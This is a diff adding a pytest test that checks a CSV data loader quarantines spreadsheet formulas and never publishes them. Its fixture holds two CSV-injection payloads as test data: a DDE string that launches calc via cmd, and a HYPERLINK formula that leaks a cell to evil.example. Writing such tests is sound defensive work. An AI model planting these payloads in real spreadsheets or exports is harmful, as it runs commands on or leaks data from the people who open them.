@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import csv
 import gzip
 import io
 import json
@@ -535,6 +536,26 @@ def test_a_formula_in_any_text_value_quarantines_its_record(make_project: Any, c
     assert reasons == ["cannot be stored: a text value looks like a spreadsheet formula, which is never published "
                        "(CSV injection risk)"] * 4
     assert accounts(project) == [(2, 1, 1), (4, 1, 3)]
+
+
+def test_a_formula_after_a_minus_and_a_number_is_one_and_no_quarantined_formula_is_published(
+        make_project: Any, cli_runner: CliRunner) -> None:
+    """Review BB #6: ``-1+1+cmd|' /C calc'!A0`` (a minus, a number, then an operator: Excel and LibreOffice run it)
+    loaded as a region's name; and a record quarantined for a formula had its raw text, ``=HYPERLINK(…)``, published
+    in quarantine.csv, where a spreadsheet runs it too. A negative number, or one before words, is text."""
+    project, result = build(make_project, cli_runner, {
+        "raw": {"provinces.csv": "34,DI YOGYAKARTA\n35,-1+1+cmd|' /C calc'!A0\n36,-5 KAB\n51,-1.5\n"
+                                 '=HYPERLINK("http://evil.example/?leak="&A2;"click"),X\n52,-2*3\n'},
+        "format": "kpu-wilayah-csv"})
+    assert result.exit_code == 0, result.output
+    assert query(project, "SELECT kode_wilayah, nama FROM wilayah WHERE sumber IS NOT NULL ORDER BY 1") == [
+        ("34", "DI YOGYAKARTA"), ("36", "-5 KAB"), ("51", "-1.5")]
+    quarantined = query(project, "SELECT locator, raw FROM quarantine ORDER BY locator")
+    assert [locator for locator, _ in quarantined] == ["provinces.csv:2", "provinces.csv:5", "provinces.csv:6"]
+    assert [raw for _, raw in quarantined] == ["35,-1+1+cmd|' /C calc'!A0", None, "52,-2*3"]
+    published = next((project / "datapackages").glob("*/data/quarantine.csv")).read_text(encoding="utf-8")
+    assert all(not cell.startswith(("=", "+", "@", "-")) for line in csv.reader(published.splitlines())
+               for cell in line)
 
 
 @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])  # with a byte-order mark, and without
